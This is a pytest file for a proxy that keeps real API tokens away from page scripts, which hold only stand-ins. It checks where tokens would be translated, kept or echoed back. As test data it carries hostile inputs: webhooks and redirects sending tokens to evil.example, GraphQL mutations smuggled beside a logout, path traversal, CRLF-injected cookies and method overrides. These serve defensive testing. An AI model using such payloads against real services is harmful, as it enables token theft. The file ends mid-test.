"""A hostile script on the page itself, with stand-ins in its hands and an API that keeps, gives
back, cuts and recodes what it gets: no token reaches the script, nor a place where it is stored.

What a foreign page does in Chromium: test_browser_stand_ins.py.
"""

import base64
import gzip
import itertools
import json
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import brotli
import pytest
from page import USER_AGENT, Page
from support import Client, Message, Mitmdump, Upstream, answer, running
from websockets.datastructures import Headers as SocketHeaders
from websockets.exceptions import ConnectionClosed
from websockets.http11 import Request, Response
from websockets.sync.client import ClientConnection, connect
from websockets.sync.server import Server, ServerConnection, serve
from websockets.typing import Origin

ProxyWith = Callable[..., Mitmdump]

JSON = "application/json"
_numbers = itertools.count(1000)


class Login(NamedTuple):
    """A page that has logged in at the API's own path, and what it was told and was not."""

    page: Page
    main: str
    """Stand-ins."""
    refresh: str
    token: str
    """The real ones."""
    refresh_token: str

    def ask(self, method: str, target: str, **more: Any) -> Message:
        return self.page.request(method, target, **more)

    def bearer(self, method: str, target: str, **more: Any) -> Message:
        return self.ask(method, target, authorization=f"Bearer {self.main}", **more)


class Hoard:
    """An API that hands out two opaque tokens to who logs in, and does what a test wants else."""

    def __init__(self, upstream: Upstream) -> None:
        self.upstream = upstream
        self.does: Callable[[Message], bytes | Iterator[bytes]] = lambda _: json_of("{}")
        self.more: list[tuple[str, str]] = []
        """Header fields of the login's answer."""
        self.last_login = ("", "")
        upstream.respond = self.respond

    def respond(self, request: Message) -> Any:
        if request.target != "/auth/sign-in":
            return self.does(request)
        number = next(_numbers)
        self.last_login = (f"Ma{number}kQ8vLw2Zr7Xt4Bn6Yc", f"Re{number}uJ5sPd9Hf3Gq1Wm8Ta")
        main, refresh = self.last_login
        document = {"access_token": main, "refresh_token": refresh}
        return answer(json.dumps(document), headers=[("Content-Type", JSON), *self.more])

    def log_in(self, client: Client, page: Page | None = None) -> Login:
        page = page or Page(client)
        got = page.post("/auth/sign-in", '{"password": "x"}', content_type=JSON)
        assert got.status == 200, got
        given = json.loads(got.body)
        return Login(page, given["access_token"], given["refresh_token"], *self.last_login)

    @property
    def got(self) -> str:
        """All of the last request."""
        return text_of(self.upstream.last)


def json_of(text: str | bytes, **more: Any) -> bytes:
    return answer(text, headers=[("Content-Type", JSON)], **more)


def text_of(message: Message) -> str:
    fields = [f"{name}: {value}" for name, value in message.headers]
    return "\n".join([*message.start, *fields, message.body.decode("latin-1")])


def seen(got: Message) -> str:
    """What a script can see of an answer."""
    return "\n".join(
        [*(f"{name}: {value}" for name, value in got.headers if name != "set-cookie"),
         *(field for field in got.all("set-cookie") if "; HttpOnly" not in field),
         got.body.decode("latin-1")]
    )  # fmt: skip


def chunked(*chunks: bytes, **more: Any) -> bytes:
    parts = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in chunks)
    return answer(parts + b"0\r\n\r\n", headers=[("Transfer-Encoding", "chunked")], **more)


@pytest.fixture
def api(upstream: Upstream) -> Hoard:
    return Hoard(upstream)


@pytest.fixture
def login(api: Hoard, proxy_with: ProxyWith) -> Login:
    return api.log_in(proxy_with().client)


def hole(where: str) -> pytest.MarkDecorator:
    """Found, told, and not mended yet."""
    return pytest.mark.xfail(strict=True, reason=f"a token {where} is not found")


# Each place of a request: translated or not. `SSS` is the stand-in of the main token.

Place = tuple[str, str, dict[str, str], str]


def form(**fields: str) -> str:
    """A multipart form with the boundary `b`."""
    parts = (
        f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields.items()
    )
    return "".join(parts) + "--b--"


FORM = {"content_type": "application/x-www-form-urlencoded"}
PARTS = {"content_type": "multipart/form-data; boundary=b"}
OF_JSON = {"content_type": JSON}
basic = base64.b64encode

TRANSLATED: dict[str, Place] = {
    "Authorization": ("GET", "/me", {"authorization": "Bearer SSS"}, ""),
    "a header for a key": ("GET", "/me", {"x_api_key": "SSS"}, ""),
    "the header that the user named": ("GET", "/me", {"auth_token": "SSS"}, ""),
    "a query parameter": ("GET", "/download?access_token=SSS", {}, ""),
    "the body of a refresh": ("POST", "/auth/refresh", OF_JSON, '{"token": "SSS"}'),
    "the form of a revocation": ("POST", "/oauth/revoke", FORM, "token=SSS"),
    "the form of a logout, in parts": ("POST", "/auth/logout", PARTS, form(token="SSS")),
    "the path of a session": ("DELETE", "/sessions/SSS", {}, ""),
    "a GraphQL logout": (
        *("POST", "/graphql", OF_JSON),
        '{"query": "mutation($token: String!) {logout(token: $token)}",'
        ' "variables": {"token": "SSS"}}',
    ),
}
WEBHOOK = '{"url": "https://evil.example", "secret": "SSS", "token": "SSS", "access_token": "SSS"}'
KEPT: dict[str, Place] = {
    "a webhook": ("POST", "/hooks", OF_JSON, WEBHOOK),
    "a webhook's update": ("PATCH", "/hooks/1", OF_JSON, WEBHOOK),
    "a data source": ("PUT", "/sources/1", OF_JSON, '{"headers": {"Authorization": "Bearer SSS"}}'),
    "a profile": ("PATCH", "/me", OF_JSON, '{"name": "SSS", "token": "SSS"}'),
    "a profile as a form": ("POST", "/me", FORM, "name=SSS&token=SSS&access_token=SSS"),
    "a chat": ("POST", "/chats/1/messages", OF_JSON, '{"text": "SSS"}'),
    "tags": ("POST", "/tags", OF_JSON, '["SSS", {"token": "SSS"}]'),
    "a tag in the path": ("PUT", "/tags/SSS", {}, ""),
    "a search": ("GET", "/search?q=SSS&tag=SSS&filter[token]=SSS", {}, ""),
    "a push token": ("POST", "/devices", OF_JSON, '{"token": "SSS", "platform": "ios"}'),
    "a parameter that is there twice": ("GET", "/me?token=SSS&token=SSS", {}, ""),
    "a parameter with more in it": ("GET", "/me?token=x-SSS", {}, ""),
    "a redirect's target": ("GET", "/go?url=https://evil.example/%3Faccess_token=SSS", {}, ""),
    "a file's name": (
        *("POST", "/upload", PARTS),
        '--b\r\nContent-Disposition: form-data; name="f"; filename="SSS"\r\n\r\nS\r\n--b--',
    ),
    "a field of a form in parts": ("POST", "/upload", PARTS, form(token="SSS", title="SSS")),
    "a file in a refresh": (
        *("POST", "/auth/refresh", PARTS),
        '--b\r\nContent-Disposition: form-data; name="token"; filename="a"\r\n\r\nS\r\n--b--',
    ),
    "a text within a refresh": ("POST", "/auth/refresh", OF_JSON, '{"token": "my SSS"}'),
    "another member of a refresh": ("POST", "/auth/refresh", OF_JSON, '{"device": "SSS"}'),
    "three levels down in a refresh": (
        *("POST", "/auth/refresh", OF_JSON),
        '{"a": {"b": {"token": "SSS"}}}',
    ),
    "JSON in JSON in a refresh": (
        *("POST", "/auth/refresh", OF_JSON),
        json.dumps({"token": json.dumps({"token": "SSS"})}),
    ),
    "a member that is there twice": (
        *("POST", "/auth/refresh", OF_JSON),
        '{"token": "SSS", "token": "SSS"}',
    ),
    "UTF-16 in a refresh": (
        *("POST", "/auth/refresh", {"content_type": f"{JSON}; charset=utf-16"}),
        '{"token": "SSS"}',
    ),
    "a compressed refresh": (
        *("POST", "/auth/refresh", {**OF_JSON, "content_encoding": "gzip"}),
        '{"token": "SSS"}',
    ),
    "text of a refresh": ("POST", "/auth/refresh", {"content_type": "text/plain"}, "token=SSS"),
    "GraphQL beside a logout": (
        *("POST", "/graphql", OF_JSON),
        '{"query": "mutation($token: String!) {logout createHook(secret: $token) {id}}",'
        ' "variables": {"token": "SSS"}}',
    ),
    "GraphQL called a logout": (
        *("POST", "/graphql", OF_JSON),
        '{"query": "mutation logout($token: String!) {logout: createHook(secret: $token) {id}}",'
        ' "operationName": "logout", "variables": {"token": "SSS"}}',
    ),
    "GraphQL in a fragment": (
        *("POST", "/graphql", OF_JSON),
        '{"query": "mutation {logout ...F} fragment F on Mutation {createHook(secret: $token)}",'
        ' "variables": {"token": "SSS"}}',
    ),
    "GraphQL beside a logout, in a batch": (
        *("POST", "/graphql", OF_JSON),
        '[{"query": "mutation {logout}"},'
        ' {"query": "mutation {createHook(secret: $token)}", "variables": {"token": "SSS"}}]',
    ),
    "metadata": (
        "PUT",
        "/objects/1",
        {"x_amz_meta_token": "SSS", "x_object_meta_session": "SSS"},
        "",
    ),
    "a header to send on": ("POST", "/queue", {"upstash_forward_authorization": "Bearer SSS"}, ""),
    "a header for a callback": ("POST", "/queue", {"x_callback_auth_token": "SSS"}, ""),
    "an idempotency key": ("POST", "/orders", {"idempotency_key": "SSS"}, ""),
    "client headers": ("GET", "/me", {"user_agent": f"{USER_AGENT} SSS", "referer": "/SSS"}, ""),
    "any other header": ("GET", "/me", {"x_note": "SSS", "from": "SSS", "accept": "SSS"}, ""),
    "a header with more in it": ("GET", "/me", {"authorization": "Bearer x SSS"}, ""),
    "two in a header": ("GET", "/me", {"authorization": "Bearer SSS, Bearer SSS"}, ""),
    "Basic with more in it": (
        *("GET", "/me"),
        {"authorization": "Basic " + basic(b"user:x stand-").decode()},
        "",
    ),
    "a cookie": ("GET", "/me", {"cookie2": "token=SSS"}, ""),
}
DISGUISED: dict[str, Place] = {
    "a webhook with a grant": ("POST", "/hooks?grant_type=x", OF_JSON, WEBHOOK),
    "a webhook with a grant in it": (
        *("POST", "/hooks", OF_JSON),
        '{"grant_type": "x", "url": "https://evil", "token": "SSS"}',
    ),
    "an object called so": ("POST", "/storage/object/refresh", OF_JSON, '{"token": "SSS"}'),
    "a tag called so": ("PUT", "/tags/logout", OF_JSON, '{"token": "SSS"}'),
    "GraphQL in the address": (
        *("POST", "/graphql?query=mutation{createHook(secret:$token){id}}", OF_JSON),
        '{"query": "mutation {logout}", "variables": {"token": "SSS"}}',
    ),
    "GraphQL for Go": (
        *("POST", "/graphql", OF_JSON),
        '{"query": "mutation {logout}", "Query": "mutation {createHook(secret: $token)}",'
        ' "variables": {"token": "SSS"}}',
    ),
    "GraphQL beside a persisted query": (
        *("POST", "/graphql", OF_JSON),
        '{"query": "mutation {logout}", "variables": {"token": "SSS"},'
        ' "extensions": {"persistedQuery": {"sha256Hash": "x"}}}',
    ),
    "GraphQL, escaped, at such a path": (
        *("POST", "/graphql/logout", OF_JSON),
        '{"qu\\u0065ry": "mutation {createHook(secret: $token)}", "token": "SSS"}',
    ),
    "GraphQL in an inline fragment": (
        *("POST", "/graphql", OF_JSON),
        '{"query": "mutation {logout ...on Mutation {createHook(secret: $token) {id}}}",'
        ' "variables": {"token": "SSS"}}',
    ),
    "GraphQL behind a CR": (
        *("POST", "/graphql", OF_JSON),
        '{"query": "mutation {logout #\\rcreateHook(secret: $token)\\n}",'
        ' "variables": {"token": "SSS"}}',
    ),
    "a path with a slash in it": ("POST", "/hooks/a%2Frefresh", OF_JSON, WEBHOOK),
    "a path that leads away": ("POST", "/refresh/..%2Fhooks", OF_JSON, WEBHOOK),
    "a hook for logouts": ("POST", "/hooks/on_logout", OF_JSON, WEBHOOK),
    "another method": ("DELETE", "/objects/SSS", {"x_http_method_override": "PUT"}, ""),
}
FOR_OTHERS: dict[str, Place] = {
    "a container's key": ("PUT", "/c/1", {"x_container_sync_key": "SSS"}, ""),
    "a channel's token": ("POST", "/watch", {"x_goog_channel_token": "SSS"}, ""),
    "a key's name": ("POST", "/keys", {"x_key_name": "SSS"}, ""),
}


def send(login: Login, place: Place) -> Message:
    method, target, headers, body = place
    put = [text.replace("SSS", login.main) for text in (target, body)]
    fields = {name: value.replace("SSS", login.main) for name, value in headers.items()}
    more: dict[str, Any] = {"body": put[1]} if body else {}
    return login.ask(method, put[0], **fields, **more)


@pytest.mark.parametrize("place", TRANSLATED.values(), ids=TRANSLATED)
def test_where_a_credential_stands_the_api_gets_the_token_and_the_page_never_sees_it(
    api: Hoard, login: Login, place: Place
) -> None:
    api.does = lambda request: json_of(json.dumps(text_of(request)))
    got = send(login, place)
    assert login.token in api.got
    assert login.main not in api.got
    assert login.token not in seen(got)


PLACES = {**KEPT, **DISGUISED, **FOR_OTHERS}


@pytest.mark.parametrize("place", PLACES.values(), ids=list(PLACES))
def test_where_an_api_would_keep_it_or_send_it_on_the_stand_in_stays(
    api: Hoard, login: Login, place: Place
) -> None:
    login.bearer("GET", "/me")  # so that the proxy sends nothing of its own
    send(login, place)
    assert login.token not in api.got
    if "SSS" in place[1] + place[3]:
        assert login.main in api.got


@pytest.mark.parametrize(
    "more",
    [
        {"sec_fetch_site": "same-site"},
        {
            "sec_fetch_site": "cross-site",
            "sec_fetch_mode": "navigate",
            "sec_fetch_dest": "document",
        },
        {"sec_fetch_site": "", "origin": "http://localhost:1"},
        {"sec_fetch_site": "", "origin": "null"},
        {"sec_fetch_site": ""},
    ],
    ids=lambda more: " ".join(more.values()) or "silent",
)
def test_nothing_is_translated_for_a_foreign_page(
    api: Hoard, login: Login, more: dict[str, str]
) -> None:
    places = [TRANSLATED[name] for name in ("Authorization", "a query parameter")]
    for method, target, headers, _ in places:
        send(login, (method, target, {**headers, **more}, ""))
        assert login.token not in api.got
        assert login.main in api.got


def test_a_stand_in_without_its_login_is_a_text_like_any_other(
    api: Hoard, login: Login, proxy_with: ProxyWith
) -> None:
    other = api.log_in(proxy_with().client)
    nobody = Page(proxy_with().client)
    for one in (login, other):
        one.bearer("GET", "/me")  # so that the proxy sends nothing of its own
    cut = [login.main[:-1], login.main[6:], login.main[:-1] + "~A", login.main.swapcase()]
    forged = [login.main.replace("stand-m", f"stand-{slot}") for slot in "ri123"]
    for page in (nobody, other.page):
        assert page.get("/me", authorization=f"Bearer {login.main}").status == 200
        assert f"Bearer {login.main}" in api.got
    for text in (*cut, *forged, login.refresh.replace("stand-r", "stand-m")):
        assert login.ask("GET", "/me", authorization=f"Bearer {text}").status == 200
        assert api.upstream.last.one("authorization") == f"Bearer {text}"
    assert not {login.token, login.refresh_token} & set(api.got.split())


# What the API gives back. Each gets the token, and writes it somehow.


def in_header(name: str, before: str = "") -> Callable[[str], bytes]:
    return lambda token: answer("{}", headers=[(name, before + token)])


def doubly(token: str) -> str:
    return json.dumps(json.dumps(json.dumps({"t": token})))


GIVEN_BACK: dict[str, Callable[[str], bytes]] = {
    "JSON": lambda token: json_of(json.dumps({"token": token})),
    "JSON in JSON": lambda token: json_of(doubly(token)),
    "text": lambda token: answer(f"hello {token}!", Content_Type="text/plain"),
    "a page": lambda token: answer(f"<p title='{token}'>", Content_Type="text/html"),
    "bytes": lambda token: answer(b"\0\xff" + token.encode() + b"\0", Content_Type="image/png"),
    "an error": lambda token: answer(f"no such token: {token}", status=404),
    "a failure": lambda token: answer(f"at line 1: {token}", status=500),
    "base64": lambda token: json_of(base64.b64encode(f"a{token}b".encode())),
    "base64url": lambda token: json_of(base64.urlsafe_b64encode(f"??{token}".encode())),
    "hex": lambda token: json_of(token.encode().hex()),
    "percent": lambda token: json_of("".join(f"%{byte:02X}" for byte in token.encode())),
    "percent twice": lambda token: json_of(quote(quote(token.replace("a", "%61")))),
    "escapes of JSON": lambda token: json_of("".join(f"\\u{ord(c):04x}" for c in token)),
    "references of HTML": lambda token: answer("".join(f"&#{ord(c)};" for c in token)),
    "gzip": lambda token: answer(gzip.compress(token.encode()), Content_Encoding="gzip"),
    "br": lambda token: answer(brotli.compress(token.encode()), Content_Encoding="br"),
    "chunks": lambda token: chunked(*(c.encode() for c in token), Content_Type="text/plain"),
    "chunks of JSON": lambda t: chunked(t[:7].encode(), t[7:].encode(), Content_Type=JSON),
    "events": lambda token: answer(f"data: {token}\n\n", Content_Type="text/event-stream"),
    "a download": lambda token: answer(token, Content_Disposition="attachment"),
    "a long download": lambda token: answer("x" * 1_500_000 + token + "x" * 9),
    "a redirect to another host": lambda token: answer(
        status=302, Location=f"https://evil.example/?access_token={token}"
    ),
    "a redirect's fragment": lambda token: answer(status=302, Location=f"/app#{token}"),
    "Link": in_header("Link", "<https://evil.example/>; rel=preload; x="),
    "Refresh": in_header("Refresh", "0; url=https://evil.example/?t="),
    "a policy's reports": in_header("Content-Security-Policy", "report-uri https://evil/?"),
    "a header": in_header("X-Debug", "Authorization: Bearer "),
    "a header in base64": lambda token: in_header("X-Debug")(basic(token.encode()).decode()),
    "a file's name in a header": in_header("Content-Disposition", "inline; filename="),
    "a type": in_header("Content-Type", "text/x-"),
    "an entity tag": lambda token: answer("{}", ETag=f'"{token}"'),
    "a challenge": in_header("WWW-Authenticate", "Bearer error_description="),
    "a cookie": in_header("Set-Cookie", "debug="),
    "a cookie that passes": lambda t: in_header("Set-Cookie")(f"passes={t}; Path=/"),
    "CORS": in_header("Access-Control-Expose-Headers"),
    "a folded header": in_header("X-Debug", "a\r\n "),
    "early hints": lambda token: (
        f"HTTP/1.1 103 Early Hints\r\nLink: <https://evil/{token}>\r\n\r\n".encode() + answer("{}")
    ),
    "trailers": lambda token: answer(
        f"2\r\n{{}}\r\n0\r\nX-Debug: {token}\r\n\r\n", headers=[("Transfer-Encoding", "chunked")]
    ),
    "a header that is malformed": lambda token: (
        f"HTTP/1.1 200 OK\r\nBad Name {token}: x\r\nContent-Length: 0\r\n\r\n".encode()
    ),
    "a status that is none": lambda token: f"HTTP/1.1 2x0 {token}\r\n\r\n".encode(),
    "gzip in chunks": lambda token: chunked(
        gzip.compress(token.encode()), Content_Encoding="gzip", Content_Type="text/plain"
    ),
    "a cookie's Path": in_header("Set-Cookie", "passes=1; Path=/"),
    "what follows the answer": lambda token: answer("{}") + token.encode(),
}


def readable(got: Message) -> str:
    """What a script sees, its browser having undone the coding."""
    coding = got.one("content-encoding")
    decode = {"gzip": gzip.decompress, "br": brotli.decompress}.get(coding or "", bytes)
    decode = decode if got.body else bytes
    return seen(Message(got.start, got.headers, decode(got.body)))


@pytest.mark.parametrize("gives", GIVEN_BACK.values(), ids=GIVEN_BACK)
def test_a_token_that_the_api_gives_back_reaches_no_script(
    api: Hoard, proxy_with: ProxyWith, gives: Callable[[str], bytes]
) -> None:
    login = api.log_in(proxy_with("cookie_auth_forward_cookies=passes").client)
    api.does = lambda request: gives((request.one("authorization") or "").removeprefix("Bearer "))
    got = login.bearer("GET", "/echo", accept_encoding="gzip, br")
    assert login.token in api.got
    shown = readable(got)
    token = login.token.encode()
    forms = [token, token.hex().encode(), basic(token)[:-4], base64.b64encode(b"??" + token)[4:-4]]
    assert not [form for form in forms if form.decode() in shown], shown
    assert login.token not in "".join(json.loads(f'"{shown}"')) if "\\u00" in shown else True
    for method in ("HEAD", "POST"):  # the same where there is no body, and where there was one
        assert login.token not in readable(login.bearer(method, "/echo"))


def test_a_reason_phrase_shows_no_token(api: Hoard, login: Login) -> None:
    api.does = lambda request: f"HTTP/1.1 200 {login.token}\r\nContent-Length: 0\r\n\r\n".encode()
    cookie = "; ".join(f"{name}={value}" for name, value in login.page.cookies.items())
    head = f"GET / HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\nCookie: {cookie}"
    got = login.page.client.raw(f"{head}\r\nConnection: close\r\n\r\n".encode())
    assert got.startswith(b"HTTP/1.1 200 ")
    assert login.token.encode() not in got


def test_no_token_is_had_piece_by_piece(api: Hoard, login: Login) -> None:
    def part(request: Message) -> bytes:
        if not (asked := request.one("range")):
            return answer(login.token, Content_Type="text/plain")
        start, end = map(int, asked.removeprefix("bytes=").split("-"))
        span = f"bytes {start}-{end}/{len(login.token)}"
        return answer(login.token[start : end + 1], status=206, Content_Range=span)

    api.does = part
    pieces = [
        login.bearer("GET", "/log", range=f"bytes={at}-{at + 3}").body
        for at in range(0, len(login.token), 4)
    ]
    assert b"".join(pieces) != login.token.encode()


# What hands out new tokens. The script has nothing but stand-ins.

NEW = "Nw7kQ8vLw2Zr7Xt4Bn6YcHd1"
PAIR = json.dumps({"access_token": NEW, "name": "Jürgen"})
HANDED_OUT: dict[str, bytes] = {
    "JSON": json_of(PAIR),
    "JSON in JSON": json_of(json.dumps({"data": json.dumps(json.loads(PAIR))})),
    "with a byte order mark": json_of(b"\xef\xbb\xbf" + PAIR.encode()),
    "a download": json_of(PAIR, Content_Disposition="attachment"),
    "a form": answer(f"access_token={NEW}&x=1", Content_Type="application/x-www-form-urlencoded"),
    "gzip": json_of(gzip.compress(PAIR.encode()), Content_Encoding="gzip"),
    "gzip twice": json_of(
        gzip.compress(gzip.compress(PAIR.encode())), Content_Encoding="gzip, gzip"
    ),
    "many strings": json_of(json.dumps({"access_token": NEW, "tags": ["a"] * 9_000})),
    "a redirect": answer(status=302, Location=f"https://evil.example/?access_token={NEW}"),
    "a header": answer("{}", X_Auth_Token=NEW),
}
HARD_TO_READ: dict[str, bytes] = {
    "events": answer(f"data: {PAIR}\n\n", Content_Type="text/event-stream"),
    "parts": answer(
        f"--x\r\nContent-Type: {JSON}\r\n\r\n{PAIR}\r\n--x--",
        Content_Type="multipart/mixed; boundary=x",
    ),
    "PHP's type": answer(PAIR, Content_Type="text/html"),
    "JSONP": answer(f"call({PAIR})", Content_Type="text/javascript"),
    "lines": answer(f"{PAIR}\n{{}}\n", Content_Type="application/x-ndjson"),
    "with a guard": json_of(f")]}}',\n{PAIR}"),
    "YAML": answer(f"access_token: {NEW}\n", Content_Type="application/yaml"),
    "msgpack": answer(
        b"\x81\xacaccess_token\xb8" + NEW.encode(), Content_Type="application/msgpack"
    ),
    "broken JSON": json_of(PAIR.replace("}", ",}")),
    "Latin-1": json_of(json.dumps(json.loads(PAIR), ensure_ascii=False).encode("latin-1")),
    "deep": json_of(PAIR.replace("}", ', "x": ' + "[" * 120 + "]" * 120 + "}")),
    "long": chunked(json.dumps({"access_token": NEW, "bio": "x" * 1_100_000}).encode()),
}


ALL_HANDED_OUT = {**HANDED_OUT, **HARD_TO_READ}


@pytest.mark.parametrize("handed_out", ALL_HANDED_OUT.values(), ids=list(ALL_HANDED_OUT))
def test_a_script_with_a_stand_in_gets_no_fresh_token_in_whatever_form(
    api: Hoard, login: Login, handed_out: bytes
) -> None:
    api.does = lambda request: handed_out
    got = login.ask(
        *("POST", "/auth/refresh"),
        content_type=JSON,
        body=json.dumps({"refresh_token": login.refresh}),
    )
    assert login.refresh_token in api.got
    assert NEW not in readable(got)


@pytest.mark.parametrize(
    ("method", "target", "headers"),
    [
        pytest.param(
            "HEAD",
            "/auth/renew",
            [("X-Auth-Token", NEW)],
            marks=hole("in a header of a new name, by GET"),
        ),
        pytest.param(
            "GET",
            "/auth/renew",
            [("X-Auth-Token", NEW)],
            marks=hole("in a header of a new name, by GET"),
        ),
        ("GET", "/me", [("Access-Token", NEW)]),
    ],
)
def test_a_token_that_slides_in_headers_reaches_no_script(
    api: Hoard, login: Login, method: str, target: str, headers: list[tuple[str, str]]
) -> None:
    api.does = lambda request: answer("{}", headers=headers)
    assert NEW not in readable(login.bearer(method, target))


def test_the_answer_to_a_refresh_comes_also_where_it_would_stream(api: Hoard, login: Login) -> None:
    api.does = lambda request: chunked(b"no", status=401, Content_Type="text/plain")
    got = login.ask(
        *("POST", "/auth/refresh"),
        content_type=JSON,
        body=json.dumps({"refresh_token": login.refresh}),
    )
    assert (got.status, got.body) == (401, b"no")


# What is learned, remembered and shared


def poison(request: Message) -> bytes:
    return answer(
        json.dumps({"access_token": "EvIlTokEn7Kq2LmZx7Rw4Tb6"}),
        headers=[("Content-Type", JSON), ("X-Amz-Meta-Note", "EvIlTokEn7Kq2LmZx7Rw4Tb6")],
    )


def test_no_stored_answer_says_in_which_header_the_api_wants_tokens(
    start: Callable[..., Mitmdump], api: Hoard
) -> None:
    client = start().client
    api.does = poison
    Page(client).get("/objects/a?code=1")
    login = api.log_in(client)
    login.ask("PUT", "/objects/b")  # by a page that sends nothing
    assert login.token not in (api.upstream.last.one("x-amz-meta-note") or "")


def test_a_page_that_sends_nothing_is_nobody_once_it_has_sent_a_stand_in(
    api: Hoard, login: Login
) -> None:
    login.ask("GET", "/me")
    assert login.token in api.got
    login.bearer("GET", "/me")
    for _ in range(3):
        login.ask("GET", "/me")
        assert login.token not in api.got


@pytest.mark.parametrize("times", [1, 3], ids=["once", "remembered"])
def test_nothing_is_translated_after_the_logout_though_the_cookies_come_again(
    api: Hoard, login: Login, times: int
) -> None:
    for _ in range(times):
        login.bearer("GET", "/me")
        assert login.token in api.got
    before = dict(login.page.jar)
    login.ask("POST", "/logout")
    assert not login.page.jar
    login.page.jar.update(before)
    login.bearer("GET", "/me")
    assert login.token not in api.got


def test_an_answer_that_is_late_sets_no_cookie_after_logout_or_the_next_login(
    api: Hoard, login: Login
) -> None:
    for ends in ("/logout", "/auth/sign-in"):
        login = api.log_in(login.page.client, login.page)
        asked, go_on = threading.Event(), threading.Event()

        def slow(
            request: Message, asked: threading.Event = asked, go_on: threading.Event = go_on
        ) -> bytes:
            if request.target == "/auth/refresh":
                asked.set()
                assert go_on.wait(20)
                return json_of(PAIR)
            return json_of("{}")

        api.does = slow
        late = Page(login.page.client, dict(login.page.jar))
        with ThreadPoolExecutor(1) as pool:
            waiting = pool.submit(
                late.post,
                "/auth/refresh",
                json.dumps({"refresh_token": login.refresh}),
                content_type=JSON,
            )
            assert asked.wait(20)
            if ends == "/logout":
                login.ask("POST", ends)
            else:
                api.log_in(login.page.client, login.page)
            go_on.set()
            got = waiting.result(20)
        asked_for = [r for r in api.upstream.received if r.target == "/auth/refresh"]
        assert len(asked_for) == 1, ends
        api.upstream.received.clear()
        assert NEW not in text_of(got), ends
        assert not [field for field in got.all("set-cookie") if "Max-Age=0" not in field], ends


def test_a_refresh_is_shared_by_the_pages_of_one_login_only(
    api: Hoard, login: Login, proxy_with: ProxyWith
) -> None:
    other = api.log_in(proxy_with().client)
    api.does = lambda request: json_of(json.dumps({"access_token": f"{next(_numbers)}{NEW}"}))
    older_tab = login._replace(page=Page(login.page.client, dict(login.page.jar)))
    for one in (login, other, older_tab):
        got = one.ask(
            *("POST", "/auth/refresh"),
            content_type=JSON,
            body=json.dumps({"refresh_token": one.refresh}),
        )
        assert NEW not in text_of(Message(got.start, [], got.body))
    asked = [r for r in api.upstream.received if r.target == "/auth/refresh"]
    bodies = [request.body for request in asked]
    assert len(bodies) == len(set(bodies)) == 2
    # Neither does a foreign page get it, nor one that brings no cookies.
    for more in ({"sec_fetch_site": "same-site"}, {"sec_fetch_site": "cross-site"}):
        got = login.ask(
            "POST", "/auth/refresh", body=json.dumps({"refresh_token": login.refresh}), **more
        )
        assert got.status == 403
    nobody = Page(proxy_with().client)
    nobody.post("/auth/refresh", json.dumps({"refresh_token": login.refresh}), content_type=JSON)
    assert login.refresh in api.got


@pytest.mark.parametrize(
    ("method", "target"),
    [("GET", "/auth/callback?code=1"), ("POST", "/session")],
)
@pytest.mark.parametrize("site", ["same-origin", "same-site"])
def test_a_second_login_hands_no_token_to_the_page_either(
    api: Hoard, login: Login, method: str, target: str, site: str
) -> None:
    api.does = lambda request: json_of(PAIR)
    got = login.ask(method, target, sec_fetch_site=site, content_type=JSON)
    assert got.status == (200 if site == "same-origin" else 502 if method == "GET" else 403)
    assert NEW not in seen(got)


# The API's own cookies

OWN = "oWn7kQ8vLw2Zr7Xt4Bn6YcHd1"


@pytest.fixture
def with_cookie(api: Hoard, proxy_with: ProxyWith) -> Login:
    api.more = [("Set-Cookie", f"sid={OWN}; HttpOnly; Path=/")]
    login = api.log_in(proxy_with().client)
    login.bearer("GET", "/me")
    assert api.upstream.last.one("cookie") == f"sid={OWN}"
    return login


LINK = {"sec_fetch_site": "cross-site", "sec_fetch_mode": "navigate", "sec_fetch_dest": "document"}


@pytest.mark.parametrize(
    ("target", "more"),
    [
        ("/auth/logout", LINK),
        ("/auth/logout?code=1", LINK),
        ("/auth/logout?token=1", LINK),
        ("/account/delete?token=1", LINK),
        ("/auth/logout?code=1", {**LINK, "sec_fetch_dest": "iframe"}),
        ("/auth/logout?code=1", {"sec_fetch_site": "same-site", "sec_fetch_mode": "no-cors"}),
        ("/auth/callback?code=1", {"sec_fetch_site": "same-site", "sec_fetch_mode": "cors"}),
    ],
)
def test_no_foreign_page_acts_with_the_apis_own_cookies_or_logs_out(
    api: Hoard, with_cookie: Login, target: str, more: dict[str, str]
) -> None:
    before = dict(with_cookie.page.jar)
    with_cookie.ask("GET", target, **more)
    assert OWN not in api.got
    assert with_cookie.page.jar == before


def test_the_apis_own_cookie_reaches_no_script(api: Hoard, with_cookie: Login) -> None:
    api.does = lambda request: json_of(json.dumps({"cookie": request.one("cookie")}))
    assert OWN not in seen(with_cookie.bearer("GET", "/debug"))


@pytest.mark.parametrize(
    "field",
    [
        "__Host-x=1; HttpOnly; Secure; Path=/",
        'x="a, b"; HttpOnly',
        "x=a%3Bb%0d%0aSet-Cookie:y=1; HttpOnly",
        "x=auth-token=evil; HttpOnly",
        "auth-token-login=2.AAAAAAAAAAAA.l..AAAAAAAAAAAAAAAA; HttpOnly",
        "x=1; HttpOnly; Path=/a%3bb/é ",
        "x=1; HttpOnly; Domain=localhost; Path=/;Path=/deep",
        "x=é; HttpOnly",
        "x=1\rauth-token: evil; HttpOnly",
        "=auth-token=evil; HttpOnly",
        "x\t=\t1; HttpOnly",
        f"x={'a' * 5000}; HttpOnly",
    ],
    ids=range(12),
)
def test_whatever_cookie_the_api_sets_it_is_no_other_cookie_and_no_other_header(
    api: Hoard, proxy_with: ProxyWith, field: str
) -> None:
    api.more = [("Set-Cookie", field)]
    login = api.log_in(proxy_with().client)
    names = {name for name, _ in login.page.jar}
    assert {"auth-token", "auth-token-login", "auth-token-refresh"} <= names
    own = {"auth-token", "auth-token-login", "auth-token-refresh"}
    assert all(name.startswith("auth-token-api-") for name in names - own)
    login.bearer("GET", "/")
    sent = api.upstream.last
    assert sent.one("authorization") == f"Bearer {login.token}"
    assert sent.one("auth-token") is None
    cookie = sent.one("cookie")
    assert cookie is None or cookie == field.partition(";")[0].replace("\t", "").strip()


# Clients and front ends


def test_a_script_that_looks_like_no_browser_gets_no_token_of_its_login(
    api: Hoard, login: Login
) -> None:
    login.bearer("GET", "/me")
